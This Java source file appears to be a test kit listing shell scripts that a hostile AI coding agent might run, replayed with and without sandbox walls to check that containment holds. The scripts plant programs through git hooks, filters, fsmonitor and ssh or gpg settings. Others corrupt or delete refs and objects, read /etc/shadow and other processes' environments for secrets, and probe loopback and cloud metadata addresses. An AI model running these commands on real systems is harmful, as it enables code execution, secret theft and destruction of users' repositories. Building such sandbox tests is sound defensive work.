package io.clicouncil.testkit;

import java.util.List;

/**
 * What a hostile agent tries, as shell scripts: to plant programs that the user's git or ours would run, to damage the
 * user's repository, and to look around. The same scripts are run with walls and without.
 *
 * @since 0.1
 */
public final class Attacks {
    private static final String EVIL = "plant \"$WT/.evil\" cat; ";

    private Attacks() {}

    /**
     * One of them. Its script runs in the worktree by {@code sh -c}, with {@code COMMON} (the repository's common git
     * directory), {@code GD} (the worktree's own), {@code WT} (the worktree) and {@code MARKER} (a file that each planted
     * program touches) in its environment. It may fail halfway: that is what walls are for.
     *
     * @param id a name of one word
     * @param faults the numbers of the faults that it provokes
     * @param commands what it does
     */
    public record Attack(String id, List<String> faults, String commands) {

        /** Takes a copy. */
        public Attack {
            faults = List.copyOf(faults);
        }

        /** The whole script; {@code plant FILE [THEN]} in it makes a program that touches the marker and does THEN. */
        public String script() {
            return "plant() { mkdir -p \"$(dirname \"$1\")\"; "
                    + "printf '#!/bin/sh\\ntouch \"%s\"\\n%s\\n' \"$MARKER\" \"${2-}\" > \"$1\"; chmod +x \"$1\"; }\n"
                    + commands;
        }

        @Override
        public String toString() {
            return id;
        }
    }

    /** Attacks on the repository. Afterwards it is as it was, and nothing that was planted has run. */
    public static List<Attack> onTheRepository() {
        return List.of(
                attack(
                        "hooks",
                        "F27",
                        "for h in post-checkout pre-commit commit-msg post-commit post-index-change reference-transaction;"
                                + " do plant \"$COMMON/hooks/$h\"; done"),
                attack("hooks-path", "F27", "plant \"$WT/.evil/pre-commit\"; git config core.hooksPath \"$WT/.evil\""),
                attack(
                        "hooks-link",
                        "F27",
                        "plant \"$WT/.evil/pre-commit\"; rm -rf \"$COMMON/hooks\"; ln -s \"$WT/.evil\" \"$COMMON/hooks\""),
                attack(
                        "filter",
                        "F28",
                        EVIL
                                + "git config filter.evil.clean \"$WT/.evil\"; git config filter.evil.smudge \"$WT/.evil\";"
                                + " echo '* filter=evil' > \"$COMMON/info/attributes\"; echo '* filter=evil' > .gitattributes"),
                attack(
                        "filter-process",
                        "F28",
                        EVIL + "git config filter.evil.process \"$WT/.evil\"; git config filter.evil.required true;"
                                + " echo '* filter=evil' > .gitattributes"),
                attack("external-diff", "F28", EVIL + "git config diff.external \"$WT/.evil\""),
                attack(
                        "textconv",
                        "F28",
                        EVIL
                                + "git config diff.evil.textconv \"$WT/.evil\"; echo '* diff=evil' > \"$COMMON/info/attributes\""),
                attack("fsmonitor", "F28", EVIL + "git config core.fsmonitor \"$WT/.evil\""),
                attack(
                        "merge-driver",
                        "F28",
                        EVIL + "git config merge.evil.driver \"$WT/.evil\"; echo '* merge=evil' > .gitattributes"),
                attack("signing", "F28", EVIL + "git config commit.gpgSign true; git config gpg.program \"$WT/.evil\""),
                attack(
                        "ssh-command",
                        "F28",
                        EVIL + "git config core.sshCommand \"$WT/.evil\"; git config credential.helper \"$WT/.evil\";"
                                + " git config remote.origin.url ssh://evil.invalid/x"),
                attack(
                        "editor",
                        "F28",
                        EVIL + "git config core.editor \"$WT/.evil\"; git config core.pager \"$WT/.evil\""),
                attack(
                        "include",
                        "F28",
                        EVIL
                                + "git config -f \"$WT/.more\" core.fsmonitor \"$WT/.evil\"; git config include.path \"$WT/.more\""),
                attack("global-config", "F28", EVIL + "git config --global core.fsmonitor \"$WT/.evil\""),
                attack("config-deleted", "F28", "rm -f \"$COMMON/config\""),
                attack(
                        "config-link",
                        "F28",
                        EVIL
                                + "git config -f \"$WT/.more\" core.fsmonitor \"$WT/.evil\"; ln -sf \"$WT/.more\" \"$COMMON/config\""),
                attack(
                        "dot-git-replaced",
                        "F29",
                        EVIL + "git init -q \"$WT/.other\"; git -C \"$WT/.other\" config core.fsmonitor \"$WT/.evil\";"
                                + " rm -f .git; echo \"gitdir: $WT/.other/.git\" > .git"),
                attack("dot-git-moved", "F29", "mv .git .gone; git init -q ."),
                attack("dot-git-deleted", "F29", "rm -rf .git"),
                attack(
                        "commondir",
                        "F29",
                        EVIL + "git init -q \"$WT/.other\"; git -C \"$WT/.other\" config core.fsmonitor \"$WT/.evil\";"
                                + " echo \"$WT/.other/.git\" > \"$GD/commondir\""),
                attack(
                        "commondir-of-all",
                        "F29",
                        EVIL + "git init -q \"$WT/.other\"; git -C \"$WT/.other\" config core.fsmonitor \"$WT/.evil\";"
                                + " echo \"$WT/.other/.git\" > \"$COMMON/commondir\""),
                attack("gitdir", "F29", "echo /nowhere/.git > \"$GD/gitdir\""),
                attack(
                        "other-worktrees",
                        "F29",
                        "for w in \"$COMMON\"/worktrees/*; do echo /nowhere > \"$w/commondir\"; echo /nowhere > \"$w/gitdir\"; done"),
                attack(
                        "config-of-worktree",
                        "F30",
                        EVIL + "git config extensions.worktreeConfig true; for d in \"$COMMON\" \"$GD\";"
                                + " do git config -f \"$d/config.worktree\" core.fsmonitor \"$WT/.evil\"; done"),
                attack(
                        "attributes",
                        "F30",
                        "mkdir -p \"$COMMON/info\"; echo '* -text binary' > \"$COMMON/info/attributes\""),
                attack(
                        "head-switched",
                        "F31",
                        "git symbolic-ref HEAD refs/heads/trunk; git commit -qam stolen --allow-empty"),
                attack(
                        "branch-moved",
                        "F31",
                        "git update-ref refs/heads/trunk \"$(git commit-tree -m x HEAD^{tree})\""),
                attack("branch-pushed", "F31", "git commit -qm x --allow-empty; git push -qf . HEAD:refs/heads/other"),
                attack(
                        "branch-deleted",
                        "F31",
                        "git update-ref -d refs/heads/trunk; git update-ref -d refs/heads/other"),
                attack("tag-moved", "F31", "git tag -f v1 \"$(git commit-tree -m x HEAD^{tree})\""),
                attack("branch-symbolic", "F31", "git symbolic-ref refs/heads/other refs/heads/trunk"),
                attack("branch-garbage", "F31", "echo garbage > \"$COMMON/refs/heads/trunk\""),
                attack(
                        "branch-a-folder",
                        "F31",
                        "git update-ref -d refs/heads/other; git update-ref refs/heads/other/x HEAD"),
                attack("users-head", "F31", "echo 'ref: refs/heads/other' > \"$COMMON/HEAD\""),
                attack("users-head-deleted", "F31", "rm -f \"$COMMON/HEAD\""),
                attack("packed-refs-garbage", "F31", "git pack-refs --all; echo garbage > \"$COMMON/packed-refs\""),
                attack(
                        "packed-refs-forged",
                        "F31",
                        "git pack-refs --all; c=$(git commit-tree -m x HEAD^{tree});"
                                + " sed -i \"s/^[0-9a-f]* refs.heads/$c refs\\/heads/\" \"$COMMON/packed-refs\""),
                attack("refs-deleted", "F31", "rm -rf \"$COMMON/refs\" \"$COMMON/packed-refs\""),
                attack("replaced-objects", "F31", "git replace -f HEAD \"$(git commit-tree -m x HEAD^{tree})\""),
                attack("hiding-tag", "F31", "git tag trunk \"$(git commit-tree -m x HEAD^{tree})\""),
                attack("stash-cleared", "F31", "git stash clear"),
                attack("shallow", "F31", "git rev-parse HEAD > \"$COMMON/shallow\""),
                attack(
                        "nested-repository",
                        "F32",
                        EVIL + "git init -q nested; git -C nested config filter.evil.clean \"$WT/.evil\";"
                                + " git -C nested config core.fsmonitor \"$WT/.evil\"; echo '* filter=evil' > nested/.gitattributes;"
                                + " echo x > nested/file"),
                attack(
                        "nested-bare",
                        "F32",
                        EVIL + "git init -q --bare bare; git -C bare config core.fsmonitor \"$WT/.evil\";"
                                + " git -C bare config core.bare false; git -C bare config core.worktree \"$WT\""),
                attack(
                        "links-outside",
                        "F33",
                        "ln -s /etc/passwd passwd; ln -s \"$COMMON\" inside; ln -s ../../.git/hooks hooks"),
                attack(
                        "spellings",
                        "F33",
                        "for d in .GIT .Git 'git~1' '.git ' '.git.'; do plant \"$d/hooks/pre-commit\"; done"),
                attack(
                        "gitlink",
                        "F33",
                        "git update-index --add --cacheinfo 160000,\"$(git rev-parse HEAD)\",sub;"
                                + " printf '[submodule \"sub\"]\\n\\tpath = sub\\n\\turl = x\\n\\tupdate = !touch \"%s\"\\n' \"$MARKER\""
                                + " > .gitmodules; git commit -qm sub"),
                attack(
                        "index-bits",
                        "F34",
                        "git update-index --skip-worktree README.md; git update-index --assume-unchanged README.md"),
                attack("index-crafted", "F34", "echo garbage > \"$GD/index\""),
                attack("ignored", "F35", "echo '*' > .gitignore; echo '*' > \"$COMMON/info/exclude\""),
                attack("packs-deleted", "F36", "rm -rf \"$COMMON\"/objects/pack/*"),
                attack("objects-deleted", "F36", "rm -rf \"$COMMON\"/objects/??"),
                attack("store-deleted", "F36", "rm -rf \"$COMMON/objects\"; mkdir \"$COMMON/objects\""),
                attack(
                        "objects-replaced",
                        "F36",
                        "for f in \"$COMMON\"/objects/??/* \"$COMMON\"/objects/pack/*; do rm -f \"$f\"; echo garbage > \"$f\"; done"),
                attack(
                        "alternates",
                        "F36",
                        "mkdir -p .store; echo \"$WT/.store\" > \"$COMMON/objects/info/alternates\""));
    }

    /**
     * Attacks on what lies outside of the repository. Each ends with exit code 0 exactly if it gets what it wants, so
     * within walls it must not. {@code SIBLING} is another agent's worktree and {@code TREE} the user's, each with a file
     * README.md; {@code SECRETS} is a readable file in the user's home; on {@code 127.0.0.1:$PORT} somebody answers;
     * {@code SECRET_VALUE} is a word in the environment of another process and not of the agent; {@code COUNCIL_PID} is
     * the council's process, {@code WT} the agent's worktree.
     */
    public static List<Attack> onTheMachine() {
        return List.of(
                attack("reads-a-sibling", "F59", "cat \"$SIBLING/README.md\""),
                attack(
                        "writes-to-a-sibling",
                        "F59",
                        "test -s \"$SIBLING/README.md\" && echo x > \"$SIBLING/README.md\""),
                attack("reads-the-users-tree", "F59", "cat \"$TREE/README.md\""),
                attack(
                        "writes-to-the-users-tree",
                        "F59",
                        "test -s \"$TREE/README.md\" && echo x > \"$TREE/README.md\""),
                attack("reads-the-users-home", "F59", "cat \"$SECRETS\""),
                attack("reads-passwords", "F59", "cat /etc/shadow"),
                attack(
                        "finds-sockets",
                        "F57",
                        "find /run /var/run -type s 2>/dev/null | grep -v '^/run/council/proxy'"),
                attack("reaches-the-loopback", "F57", "bash -c \"exec 3<>/dev/tcp/127.0.0.1/$PORT\""),
                attack("reaches-the-metadata", "F57", "timeout 2 bash -c 'exec 3<>/dev/tcp/169.254.169.254/80'"),
                attack("sees-other-processes", "F59", "test \"$(ls /proc | grep -c '^[0-9]*$')\" -gt 20"),
                attack(
                        "reads-other-environments",
                        "F59",
                        "cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n' | grep \"^SECRET_\""),
                attack("sees-siblings", "F59", "test \"$(ls -A \"$(dirname \"$WT\")\" | wc -l)\" -gt 1"),
                attack(
                        "reads-other-homes",
                        "F59",
                        "for h in /root /home/*; do test \"$h\" = \"$HOME\" || cat \"$h/.bashrc\" \"$h/.profile\"; done | grep ."),
                attack("signals-the-council", "F59", "kill -0 \"$COUNCIL_PID\""),
                attack("unlinks-its-pointer", "F29", "rm -f \"$WT/.git\""),
                attack("moves-its-pointer", "F29", "mv \"$WT/.git\" \"$WT/.gone\""),
                attack("rewrites-its-pointer", "F29", "echo 'gitdir: /nowhere' > \"$WT/.git\""),
                attack(
                        "deletes-real-objects",
                        "F36",
                        "rm -f \"$(find /run/council/objects -type f | head -n 1)\" && test -d /run/council/objects"),
                attack("remounts-real-objects", "F36", "mount -o remount,rw /run/council/objects"),
                attack("mounts", "F59", "mount -t tmpfs none /mnt"),
                attack("writes-to-the-system", "F59", "touch /usr/bin/planted"));
    }

    private static Attack attack(String id, String fault, String commands) {
        return new Attack(id, List.of(fault), commands);
    }
}
